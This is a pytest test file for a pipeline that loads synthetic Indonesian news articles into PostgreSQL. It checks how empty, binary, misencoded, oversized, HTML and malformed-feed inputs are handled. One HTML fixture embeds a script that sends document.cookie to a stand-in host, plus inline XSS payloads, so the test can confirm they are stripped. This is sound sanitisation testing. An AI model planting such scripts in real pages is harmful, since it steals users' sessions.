"""Loading news into a real PostgreSQL: the sample inbox, and every kind of bad input.

Each bad input must end with a clear per-item status (an article in raw.news_articles, or a
rejection in audit.news_rejections saying why), nothing lost, and the rest of the batch loaded.
Every article text written here is synthetic, made up for the test.
"""

from __future__ import annotations

import json
import random
import shutil
from decimal import Decimal
from pathlib import Path

import psycopg
import pytest

from capaian.news.loading import facts_as_jsonl, inbox_files, load_files

REPO_ROOT = Path(__file__).resolve().parents[3]
SAMPLE_NEWS = REPO_ROOT / "inbox" / "news"

# Synthetic articles, in the style of regional news.
SYNTHETIC_ARTICLE = (
    "BPJS Ketenagakerjaan Kantor Cabang Padang menargetkan 21.500 peserta bukan penerima upah "
    "sepanjang 2025. Hingga Juni 2025, realisasinya sudah mencapai 11.240 peserta atau 52,28 "
    "persen dari target.\n"
)
CP1252_ARTICLE = (
    "Kantor Cabang Pekalongan mencatat 8.450 peserta penerima upah hingga Juni 2025 dari target "
    "12.000 peserta tahun ini, kata kepala kantor cabang itu di kafé dekat alun-alun.\n"
)
ENGLISH_ARTICLE = (
    "The social security agency said on Monday that it expects more workers to register this "
    "year, without giving figures for any of its offices.\n"
)
# "Kantor Cabang Tanjung Selor" is a place the gazetteer does not list (synthetic figures).
UNLISTED_OFFICE_ARTICLE = (
    "TANJUNG SELOR - BPJS Ketenagakerjaan Kantor Cabang Tanjung Selor menargetkan 9.800 peserta "
    "bukan penerima upah pada 2025. Hingga Juni 2025 realisasinya mencapai 4.120 peserta.\n"
)
HTML_PAGE = """<!doctype html>
<html><head><title>Padang kejar target (sintetis)</title>
<script>document.location = "https://example.invalid/steal?c=" + document.cookie;</script>
</head><body>
<nav><a href="/">Beranda</a> <a href="/ekonomi">Ekonomi</a> <a href="/olahraga">Olahraga</a></nav>
<article>
<h1>BPJS Ketenagakerjaan Padang kejar target (sintetis)</h1>
<p>PADANG - BPJS Ketenagakerjaan Kantor Cabang Padang menargetkan 21.500 peserta bukan penerima
upah sepanjang 2025, kata kepala kantor cabang itu kepada wartawan di Padang.</p>
<p>Hingga Juni 2025, realisasinya sudah mencapai 11.240 peserta atau 52,28 persen dari target.
<img src="x.png" onerror="alert('xss')"></p>
<p onclick="alert('klik')">Kantor cabang itu terus mendatangi pasar dan komunitas nelayan agar
pekerja informal terlindungi jaminan sosial ketenagakerjaan.</p>
</article>
<div class="iklan">Promo pulsa murah! Klik di sini.</div>
<div class="comments">Komentar: mantap, semoga tercapai.</div>
</body></html>
"""


def write_bad_inputs(folder: Path) -> dict[str, Path]:
    """Each bad input of the issue, made at test time."""
    folder.mkdir()
    files = {
        "empty": folder / "empty.txt",
        "binary": folder / "garbage.txt",
        "cp1252": folder / "pekalongan_cp1252.txt",
        "huge": folder / "huge.txt",
        "html": folder / "padang_page.html",
        "english": folder / "english.txt",
        "feed": folder / "feed_with_broken_line.jsonl",
        "twin_a": folder / "twin_a.txt",
        "twin_b": folder / "twin_b.txt",
        "unlisted": folder / "tanjung_selor.txt",
    }
    files["empty"].write_bytes(b"")
    files["binary"].write_bytes(random.Random(4).randbytes(4096))
    files["cp1252"].write_bytes(CP1252_ARTICLE.encode("cp1252"))
    assert b"\xe9" in files["cp1252"].read_bytes()  # the é, as Windows-1252 writes it
    # About 5 MB: the synthetic article, then filler prose, both repeated.
    filler = "Kegiatan sosialisasi berlangsung di berbagai kecamatan dengan antusias warga. "
    files["huge"].write_text(SYNTHETIC_ARTICLE + filler * (5_000_000 // len(filler)))
    files["html"].write_text(HTML_PAGE, encoding="utf-8")
    files["english"].write_text(ENGLISH_ARTICLE, encoding="utf-8")
    feed_lines = [
        {"id": "feed-ok-1", "published_at": "2025-07-02", "text": SYNTHETIC_ARTICLE},
        '{"id": "feed-broken", "text": "kalimat yang terpotong',  # line 2: broken JSON
        {"id": "feed-ok-3", "published_at": "2025-07-03", "text": UNLISTED_OFFICE_ARTICLE + " "},
    ]
    files["feed"].write_text(
        "\n".join(line if isinstance(line, str) else json.dumps(line) for line in feed_lines)
        + "\n",
        encoding="utf-8",
    )
    twin = "Kantor Cabang Padang menghimpun iuran Rp 96,4 miliar dari target Rp 180 miliar.\n"
    files["twin_a"].write_text(twin, encoding="utf-8")
    files["twin_b"].write_text(twin, encoding="utf-8")
    files["unlisted"].write_text(UNLISTED_OFFICE_ARTICLE, encoding="utf-8")
    return files


def items_given(files: dict[str, Path]) -> int:
    feed_lines = len(files["feed"].read_text(encoding="utf-8").splitlines())
    return len(files) - 1 + feed_lines


def snapshot(url: str) -> dict[str, list[tuple]]:
    with psycopg.connect(url) as conn:
        return {
            "articles": conn.execute(
                "select content_sha256, doc_id, source_name, source_line, status, published_at,"
                " url, publisher, title from raw.news_articles order by 1"
            ).fetchall(),
            "arrivals": conn.execute(
                "select content_sha256, source_name, source_line, doc_id"
                " from raw.news_article_arrivals order by 1, 2, 3"
            ).fetchall(),
            "facts": conn.execute(
                "select content_sha256, fact_index, office, segment, metric, measure, value,"
                " year from staging.news_facts order by 1, 2"
            ).fetchall(),
            "rejections": conn.execute(
                "select source_name, source_line, reason from audit.news_rejections order by 1, 2"
            ).fetchall(),
        }


@pytest.fixture
def bad_inputs(tmp_path) -> dict[str, Path]:
    return write_bad_inputs(tmp_path / "bad")


def test_the_sample_inbox_loads_with_its_facts(migrated_db, tmp_path):
    inbox = tmp_path / "news"
    shutil.copytree(SAMPLE_NEWS, inbox)
    files = inbox_files(inbox)
    results = load_files(files, run_id="test", url=migrated_db)
    assert sum(len(r.rejected) for r in results) == 0

    expected = [json.loads(line) for line in facts_as_jsonl(files)]
    state = snapshot(migrated_db)
    assert {row[1] for row in state["articles"]} == {f["doc_id"] for f in expected}
    assert len(state["facts"]) == len(expected) >= 10
    with psycopg.connect(migrated_db) as conn:
        padang = conn.execute(
            "select a.url, a.publisher, a.published_at, f.segment, f.measure, f.value, f.year,"
            " f.evidence, f.start_offset, f.end_offset, f.extractor_version, a.article_text"
            " from staging.news_facts f join raw.news_articles a using (content_sha256)"
            " where a.doc_id = 'synthetic_padang_2025' and f.measure = 'target'"
            " and f.metric = 'participants'"
        ).fetchone()
    url, publisher, published_at, segment, measure, value, year, evidence, start, end, *rest = (
        padang
    )
    version, text = rest
    assert url.startswith("https://example.invalid/") and "synthetic" in publisher
    assert published_at == "2025-07-15"  # from the sidecar
    assert (segment, value, year) == ("BPU", Decimal(21500), 2025)
    assert text[start:end] == "21.500" and "21.500" in evidence and version


def test_each_bad_input_has_a_clear_status_and_the_rest_loads(migrated_db, bad_inputs):
    results = load_files(bad_inputs.values(), run_id="test", url=migrated_db)
    state = snapshot(migrated_db)
    by_doc = {row[1]: row for row in state["articles"]}
    rejections = {(name, line): reason for name, line, reason in state["rejections"]}

    # Every item accounted for: an arrival of an article (stored once) or a rejection.
    assert len(state["arrivals"]) + len(state["rejections"]) == items_given(bad_inputs)
    assert sum(r.articles_new + r.articles_known + len(r.rejected) for r in results) == (
        items_given(bad_inputs)
    )

    assert rejections[("empty.txt", None)] == "the file is empty"
    assert rejections[("garbage.txt", None)] == "binary content, not text"

    # Windows-1252 text is read as such: the accented letter survives, the facts are read.
    cp1252 = by_doc["pekalongan_cp1252"]
    assert cp1252[4] == "facts"
    with psycopg.connect(migrated_db) as conn:
        text = conn.execute(
            "select article_text from raw.news_articles where doc_id = 'pekalongan_cp1252'"
        ).fetchone()[0]
    assert "kafé" in text

    # The 5 MB article is kept whole, with its facts.
    with psycopg.connect(migrated_db) as conn:
        huge_length = conn.execute(
            "select length(received_body) from raw.news_articles where doc_id = 'huge'"
        ).fetchone()[0]
    assert huge_length == bad_inputs["huge"].stat().st_size
    assert by_doc["huge"][4] == "facts"

    # The page is kept as received; the text read from it holds no markup that could run.
    with psycopg.connect(migrated_db) as conn:
        page_text, page_body, page_title = conn.execute(
            "select article_text, received_body, title from raw.news_articles"
            " where doc_id = 'padang_page'"
        ).fetchone()
    assert page_body == bad_inputs["html"].read_text(encoding="utf-8")
    for markup in ("<script", "onerror=", "onclick=", "<img", "<"):
        assert markup not in page_text.lower()
    assert "11.240 peserta" in page_text
    assert "Beranda" not in page_text and "Promo pulsa" not in page_text
    assert "mantap" not in page_text  # comments are left out
    assert "Padang kejar target" in page_title  # from the page itself: no sidecar
    assert by_doc["padang_page"][4] == "facts"

    # An article in English: kept, marked as having no facts, no facts stored.
    english = by_doc["english"]
    assert english[4] == "no_facts"
    assert not [f for f in state["facts"] if f[0] == english[0]]

    # The feed: the broken line rejected with its number, the others loaded.
    assert rejections[("feed_with_broken_line.jsonl", 2)].startswith("not a JSON object")
    assert by_doc["feed-ok-1"][3] == 1 and by_doc["feed-ok-3"][3] == 3
    assert by_doc["feed-ok-1"][5] == "2025-07-02"

    # The same article under two names: stored once, both arrivals noted.
    twins = [row for row in state["articles"] if row[1] in ("twin_a", "twin_b")]
    assert len(twins) == 1
    twin_arrivals = [a for a in state["arrivals"] if a[0] == twins[0][0]]
    assert sorted(a[1] for a in twin_arrivals) == ["twin_a.txt", "twin_b.txt"]
    twin_b = next(r for r in results if r.source_name == "twin_b.txt")
    assert twin_b.articles_known == 1
    assert "duplicate of article twin_a" in twin_b.describe()

    # An office the gazetteer does not list: its facts reach staging all the same, marked
    # for review (dbt lists them in int_news_facts_held_for_review instead of publishing).
    unlisted = by_doc["tanjung_selor"][0]
    unlisted_facts = [f for f in state["facts"] if f[0] == unlisted]
    assert {(f[2], f[5], f[6]) for f in unlisted_facts} >= {
        ("Tanjung Selor", "target", Decimal(9800)),
        ("Tanjung Selor", "realization", Decimal(4120)),
    }
    with psycopg.connect(migrated_db) as conn:
        marks = conn.execute(
            "select review, confidence is not null from staging.news_facts"
            " where content_sha256 = %s",
            (unlisted,),
        ).fetchall()
    assert marks and set(marks) == {(True, True)}


def test_loading_again_changes_nothing(migrated_db, bad_inputs, tmp_path):
    inbox = tmp_path / "news"
    shutil.copytree(SAMPLE_NEWS, inbox)
    paths = [*inbox_files(inbox), *bad_inputs.values()]
    load_files(paths, run_id="first", url=migrated_db)
    before = snapshot(migrated_db)
    again = load_files(paths, run_id="second", url=migrated_db)
    assert snapshot(migrated_db) == before
    assert sum(r.articles_new for r in again) == 0


def test_a_feed_line_postgres_cannot_store_is_rejected_not_fatal(migrated_db, tmp_path):
    feed = tmp_path / "odd_feed.jsonl"
    feed.write_text(
        json.dumps({"id": "nul", "text": "teks dengan \x00 karakter nol"})
        + "\n"
        + json.dumps(
            {
                "id": 42,
                "title": ["bukan", "teks"],
                "published_at": "2025-13-45",
                "text": SYNTHETIC_ARTICLE,
            }
        )
        + "\n",
        encoding="utf-8",
    )
    (result,) = load_files([feed], run_id="test", url=migrated_db)
    assert result.articles_new == 1 and len(result.rejected) == 1
    state = snapshot(migrated_db)
    (article,) = state["articles"]
    # "2025-13-45" is no date: the month the text names stands in, as a guess.
    assert article[1] == "42" and article[5] == "2025-06" and article[8] is None
    assert state["rejections"] == [("odd_feed.jsonl", 1, "field text: binary content")]
